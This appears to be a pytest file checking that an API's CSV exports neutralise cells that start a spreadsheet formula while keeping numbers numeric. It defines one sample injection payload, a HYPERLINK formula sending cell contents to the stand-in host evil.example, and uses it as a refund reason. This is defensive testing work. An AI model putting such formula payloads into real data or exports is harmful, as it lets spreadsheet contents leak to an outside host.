"""CSV exports never start a formula, and numbers stay numbers (issue 12, item 10)."""

from __future__ import annotations

import csv
import io

import pytest

from api.csv_export import cell
from tests.api.builders import a_paid_ticket, an_admin, bearer, creator_body, finance, room_body

EVIL_REASON = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def csv_text(client, path, **params) -> str:
    response = client.get(path, params=params, headers={**finance().headers, "Accept": "text/csv"})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return response.text


@pytest.fixture
def evil_books(client):
    host = bearer("@host", "creator")
    assert client.post("/v1/creators", json=creator_body(display_name="+Evil"), headers=host).status_code == 201
    room = client.post("/v1/rooms", json=room_body(), headers=host).json()
    ticket = a_paid_ticket(client, room["id"])
    response = client.post(f"/v1/tickets/{ticket['id']}/refund", json={"amount": 300, "reason": EVIL_REASON},
                           headers=an_admin().headers)
    assert response.status_code == 200, response.text
    return room


def test_a_refund_reason_that_starts_a_formula_is_neutralised_in_the_entries_export(client, evil_books):
    text = csv_text(client, "/v1/ledger/entries")

    rows = list(csv.DictReader(io.StringIO(text)))
    memos = {r["memo"] for r in rows}
    assert "'" + EVIL_REASON in memos
    assert EVIL_REASON not in memos
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), row


def test_negative_amounts_stay_numbers_in_the_entries_export(client, evil_books):
    rows = list(csv.DictReader(io.StringIO(csv_text(client, "/v1/ledger/entries"))))

    amounts = [r["amount"] for r in rows]
    assert "-300" in amounts
    assert all(a.lstrip("-").isdigit() for a in amounts), amounts


def test_an_account_named_after_a_creator_who_starts_a_formula_is_neutralised(client, evil_books):
    rows = list(csv.DictReader(io.StringIO(csv_text(client, "/v1/reports/revenue", by="creator"))))

    assert [r["creator_id"] for r in rows] == ["'@host"]
    assert rows[0]["gross"] == "999"


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("plain", "plain"), ("", ""), (-300, -300), (0, 0), (12, 12), (None, None), (True, True),
])
def test_a_cell_is_neutralised_only_when_it_is_text_that_starts_a_formula(value, expected):
    assert cell(value) == expected
